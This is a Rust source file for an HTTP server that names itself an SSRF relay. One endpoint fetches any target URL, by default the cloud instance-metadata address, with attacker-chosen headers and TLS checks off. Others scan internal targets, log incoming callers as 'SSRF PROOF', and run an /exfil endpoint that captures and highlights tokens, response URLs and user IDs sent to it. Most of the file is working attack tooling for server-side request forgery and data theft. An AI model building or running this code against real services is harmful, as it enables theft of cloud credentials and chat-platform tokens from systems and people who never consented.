use std::{
    collections::BTreeMap,
    convert::Infallible,
    net::SocketAddr,
    sync::Arc,
    time::{Duration, Instant},
};

use anyhow::{Context, Result};
use axum::{
    body::Bytes,
    extract::{rejection::BytesRejection, ConnectInfo, FromRequestParts, RawQuery, State},
    http::{header, request::Parts, HeaderMap, HeaderName, HeaderValue},
    routing::get,
    Json, Router,
};
use serde::Serialize;
use serde_json::{json, Value};
use tower_http::trace::TraceLayer;
use tracing::{info, warn};

use crate::{
    event_log::{EventLog, DEFAULT_CAPACITY},
    fetch::{self, FetchPolicy, Fetcher, TlsPolicy},
    scanner::{self, ScanTarget, SCAN_TARGETS},
    types::{Envelope, LogEntry, LogKind},
};

/// Target used by `/relay` when the caller does not pass one.
pub const DEFAULT_TARGET: &str = "http://169.254.169.254/latest/meta-data/";

/// Entries shown by `/proof`.
pub const PROOF_RECENT: usize = 20;

/// Parameter names `/exfil` pulls out and highlights.
pub const SENSITIVE_PARAMS: [&str; 4] = ["token", "response_url", "user_id", "trigger_id"];

/// Resolved runtime configuration.
#[derive(Debug, Clone)]
pub struct RelayConfig {
    pub bind: String,
    pub relay_timeout: Duration,
    pub scan_timeout: Duration,
    pub log_capacity: usize,
    pub tls: TlsPolicy,
}

impl Default for RelayConfig {
    fn default() -> Self {
        Self {
            bind: "0.0.0.0:8888".into(),
            relay_timeout: Duration::from_secs(10),
            scan_timeout: Duration::from_secs(3),
            log_capacity: DEFAULT_CAPACITY,
            tls: TlsPolicy::AcceptInvalid,
        }
    }
}

#[derive(Clone)]
pub struct AppState {
    pub relay: Fetcher,
    pub scan: Fetcher,
    pub log: Arc<EventLog>,
    scan_targets: Arc<[ScanTarget]>,
    started: Instant,
}

impl AppState {
    pub fn new(config: &RelayConfig) -> Result<Self> {
        if config.tls == TlsPolicy::AcceptInvalid {
            warn!("TLS certificate and hostname verification is DISABLED for all outbound requests");
        }
        let relay = Fetcher::new(FetchPolicy::relay(config.relay_timeout, config.tls))
            .context("failed to build relay HTTP client")?;
        let scan = Fetcher::new(FetchPolicy::scan(config.scan_timeout, config.tls))
            .context("failed to build scan HTTP client")?;
        Ok(Self {
            relay,
            scan,
            log: Arc::new(EventLog::new(config.log_capacity)),
            scan_targets: SCAN_TARGETS.to_vec().into(),
            started: Instant::now(),
        })
    }

    /// Replace the list `/scan` walks.
    pub fn with_scan_targets(mut self, targets: Vec<ScanTarget>) -> Self {
        self.scan_targets = targets.into();
        self
    }
}

pub fn router(state: AppState) -> Router {
    Router::new()
        .route("/", get(index))
        .route("/relay", get(relay))
        .route("/scan", get(scan))
        .route("/log", get(log_request))
        .route("/logs", get(dump_logs))
        .route("/proof", get(proof))
        .route("/capture", get(capture))
        .route("/exfil", get(exfil).post(exfil))
        .layer(TraceLayer::new_for_http())
        .with_state(state)
}

pub async fn spawn_server(config: RelayConfig) -> Result<()> {
    let state = AppState::new(&config)?;
    let app = router(state);

    let listener = tokio::net::TcpListener::bind(&config.bind)
        .await
        .with_context(|| format!("failed to bind {}", config.bind))?;
    info!(bind = %config.bind, "relay listening");

    axum::serve(
        listener,
        app.into_make_service_with_connect_info::<SocketAddr>(),
    )
    .with_graceful_shutdown(shutdown_signal())
    .await
    .context("server error")?;
    Ok(())
}

async fn shutdown_signal() {
    let _ = tokio::signal::ctrl_c().await;
    info!("shutdown requested");
}

/// Who is calling and with what headers.
#[derive(Debug, Clone)]
pub struct ClientMeta {
    pub addr: String,
    pub user_agent: String,
    pub method: String,
    pub path: String,
    pub headers: BTreeMap<String, String>,
}

impl<S: Send + Sync> FromRequestParts<S> for ClientMeta {
    type Rejection = Infallible;

    async fn from_request_parts(parts: &mut Parts, _state: &S) -> Result<Self, Self::Rejection> {
        let forwarded = parts
            .headers
            .get("x-forwarded-for")
            .and_then(|v| v.to_str().ok())
            .and_then(|v| v.split(',').next())
            .map(|v| v.trim().to_string())
            .filter(|v| !v.is_empty());
        let peer = parts
            .extensions
            .get::<ConnectInfo<SocketAddr>>()
            .map(|ConnectInfo(addr)| addr.ip().to_string());
        let user_agent = parts
            .headers
            .get(header::USER_AGENT)
            .map(|v| String::from_utf8_lossy(v.as_bytes()).into_owned())
            .unwrap_or_else(|| "unknown".into());

        Ok(Self {
            addr: forwarded.or(peer).unwrap_or_else(|| "unknown".into()),
            user_agent,
            method: parts.method.as_str().to_string(),
            path: parts.uri.path().to_string(),
            headers: flatten_headers(&parts.headers),
        })
    }
}

/// Header map as `name -> value`, repeated names joined with `, `.
fn flatten_headers(headers: &HeaderMap) -> BTreeMap<String, String> {
    let mut out: BTreeMap<String, String> = BTreeMap::new();
    for (name, value) in headers {
        let value = String::from_utf8_lossy(value.as_bytes()).into_owned();
        out.entry(name.as_str().to_string())
            .and_modify(|v| {
                v.push_str(", ");
                v.push_str(&value);
            })
            .or_insert(value);
    }
    out
}

/// Decode `a=1&b=2` pairs in order, keeping duplicates.
fn decode_pairs(raw: &[u8]) -> Vec<(String, String)> {
    url::form_urlencoded::parse(raw).into_owned().collect()
}

/// First value wins for repeated keys.
fn first_values(pairs: &[(String, String)]) -> BTreeMap<String, String> {
    let mut out = BTreeMap::new();
    for (k, v) in pairs {
        out.entry(k.clone()).or_insert_with(|| v.clone());
    }
    out
}

/// `header=Name: value` query pairs as an outbound header set. Malformed ones are skipped.
fn extra_headers(pairs: &[(String, String)]) -> Option<HeaderMap> {
    let mut map = HeaderMap::new();
    for (_, raw) in pairs.iter().filter(|(k, _)| k == "header") {
        let Some((name, value)) = raw.split_once(':') else {
            continue;
        };
        let (Ok(name), Ok(value)) = (
            HeaderName::from_bytes(name.trim().as_bytes()),
            HeaderValue::from_str(value.trim()),
        ) else {
            continue;
        };
        map.append(name, value);
    }
    (!map.is_empty()).then_some(map)
}

/// Media type is compared case-insensitively, parameters ignored.
fn is_form(headers: &BTreeMap<String, String>) -> bool {
    headers
        .get("content-type")
        .and_then(|ct| ct.split(';').next())
        .map(|mime| mime.trim().eq_ignore_ascii_case("application/x-www-form-urlencoded"))
        .unwrap_or(false)
}

type Extra = serde_json::Map<String, Value>;

fn extra<T: Serialize>(key: &str, value: T) -> Extra {
    let mut map = Extra::new();
    map.insert(
        key.to_string(),
        serde_json::to_value(value).unwrap_or(Value::Null),
    );
    map
}

async fn index() -> Json<Value> {
    Json(json!({
        "status": "SSRF Relay Server Running",
        "usage": "/relay?target=URL",
        "endpoints": ["/relay", "/scan", "/log", "/logs", "/proof", "/capture", "/exfil"],
    }))
}

async fn relay(State(app): State<AppState>, RawQuery(query): RawQuery) -> Json<Envelope<Extra>> {
    let pairs = decode_pairs(query.unwrap_or_default().as_bytes());
    let target = first_values(&pairs)
        .remove("target")
        .unwrap_or_else(|| DEFAULT_TARGET.to_string());

    info!(%target, "relay request");
    let outcome = app.relay.fetch(&target, extra_headers(&pairs)).await;
    let text = fetch::render(&target, &outcome);
    let result = fetch::to_report(&target, &outcome);
    Json(Envelope::with(text, extra("result", result)))
}

async fn scan(State(app): State<AppState>) -> Json<Envelope<Extra>> {
    info!(targets = app.scan_targets.len(), "scan request");
    let entries = scanner::scan_targets(&app.scan, &app.scan_targets).await;
    let text = scanner::summary_text(&entries);
    Json(Envelope::with(text, extra("full_results", entries)))
}

async fn log_request(
    State(app): State<AppState>,
    meta: ClientMeta,
    RawQuery(query): RawQuery,
) -> Json<Envelope<Extra>> {
    let mut entry = LogEntry::new(LogKind::Log, &meta.addr, &meta.user_agent);
    entry.headers = meta.headers;
    entry.query = first_values(&decode_pairs(query.unwrap_or_default().as_bytes()));
    app.log.record(entry).await;

    let text = format!(
        "📝 **Request logged**\n\n**From:** `{}`\n**User-Agent:** `{}`",
        meta.addr, meta.user_agent
    );
    let size = app.log.len().await;
    let mut fields = extra("logged", true);
    fields.insert("log_size".into(), json!(size));
    Json(Envelope::with(text, fields))
}

async fn dump_logs(State(app): State<AppState>) -> Json<Value> {
    let entries = app.log.all().await;
    Json(json!({ "count": entries.len(), "entries": entries }))
}

async fn proof(State(app): State<AppState>) -> Json<Envelope<Extra>> {
    let size = app.log.len().await;
    let recent = app.log.recent(PROOF_RECENT).await;
    let environment = json!({
        "os": std::env::consts::OS,
        "arch": std::env::consts::ARCH,
        "version": env!("CARGO_PKG_VERSION"),
        "pid": std::process::id(),
        "uptime_secs": app.started.elapsed().as_secs(),
    });

    let mut text = format!(
        "🔴 **SSRF PROOF**\n\n**Host:** {}/{}\n**Logged requests:** {size}\n",
        std::env::consts::OS,
        std::env::consts::ARCH
    );
    for e in &recent {
        text.push_str(&format!("\n`{}` {} {}", e.timestamp, e.source_addr, e.user_agent));
    }

    let data = json!({
        "environment": environment,
        "log_size": size,
        "log_capacity": app.log.capacity(),
        "recent": recent,
    });
    Json(Envelope::with(text, extra("full_data", data)))
}

async fn capture(State(app): State<AppState>, meta: ClientMeta) -> Json<Envelope<Extra>> {
    let mut entry = LogEntry::new(LogKind::Capture, &meta.addr, &meta.user_agent);
    entry.method = Some(meta.method.clone());
    entry.path = Some(meta.path.clone());
    app.log.record(entry).await;

    let text = format!(
        "📸 **Request captured**\n\n**From:** `{}`\n**Request:** `{} {}`",
        meta.addr, meta.method, meta.path
    );
    Json(Envelope::with(text, extra("captured", true)))
}

async fn exfil(
    State(app): State<AppState>,
    meta: ClientMeta,
    RawQuery(query): RawQuery,
    body: Result<Bytes, BytesRejection>,
) -> Json<Envelope<Extra>> {
    let query = first_values(&decode_pairs(query.unwrap_or_default().as_bytes()));
    let body = body.unwrap_or_else(|rejection| {
        warn!(error = %rejection, "exfil body dropped");
        Bytes::new()
    });
    let form = if is_form(&meta.headers) {
        first_values(&decode_pairs(&body))
    } else {
        BTreeMap::new()
    };

    let found: BTreeMap<&str, String> = SENSITIVE_PARAMS
        .iter()
        .filter_map(|&key| {
            form.get(key)
                .or_else(|| query.get(key))
                .map(|v| (key, v.clone()))
        })
        .collect();

    let mut entry = LogEntry::new(LogKind::Exfil, &meta.addr, &meta.user_agent);
    entry.method = Some(meta.method);
    entry.path = Some(meta.path);
    entry.headers = meta.headers;
    entry.query = query;
    entry.form = form;
    app.log.record(entry.clone()).await;

    let text = if found.is_empty() {
        "🔴 **EXFIL** - No sensitive params found".to_string()
    } else {
        warn!(params = ?found.keys().collect::<Vec<_>>(), "sensitive params received");
        let mut text = "🚨 **EXFIL CAPTURED**\n".to_string();
        for (key, value) in &found {
            text.push_str(&format!("\n**{key}:** `{value}`"));
        }
        text
    };

    let mut fields = extra("full_data", entry);
    fields.insert("highlighted".into(), json!(found));
    Json(Envelope::with(text, fields))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn extra_headers_skips_malformed() {
        let pairs = vec![
            ("header".to_string(), "X-Test: 1".to_string()),
            ("header".to_string(), "no-colon".to_string()),
            ("target".to_string(), "http://x/".to_string()),
        ];
        let map = extra_headers(&pairs).unwrap();
        assert_eq!(map.len(), 1);
        assert_eq!(map["x-test"], "1");
        assert!(extra_headers(&pairs[1..]).is_none());
    }

    #[test]
    fn first_value_wins() {
        let pairs = decode_pairs(b"a=1&a=2&b=%20x");
        let map = first_values(&pairs);
        assert_eq!(map["a"], "1");
        assert_eq!(map["b"], " x");
    }

    #[test]
    fn form_content_type_is_case_insensitive() {
        let mut h = BTreeMap::new();
        h.insert(
            "content-type".to_string(),
            "Application/X-WWW-Form-URLEncoded; charset=UTF-8".to_string(),
        );
        assert!(is_form(&h));
        h.insert("content-type".to_string(), "application/json".to_string());
        assert!(!is_form(&h));
        assert!(!is_form(&BTreeMap::new()));
    }

    #[test]
    fn repeated_headers_are_joined() {
        let mut h = HeaderMap::new();
        h.append("x-a", HeaderValue::from_static("1"));
        h.append("x-a", HeaderValue::from_static("2"));
        assert_eq!(flatten_headers(&h)["x-a"], "1, 2");
    }
}
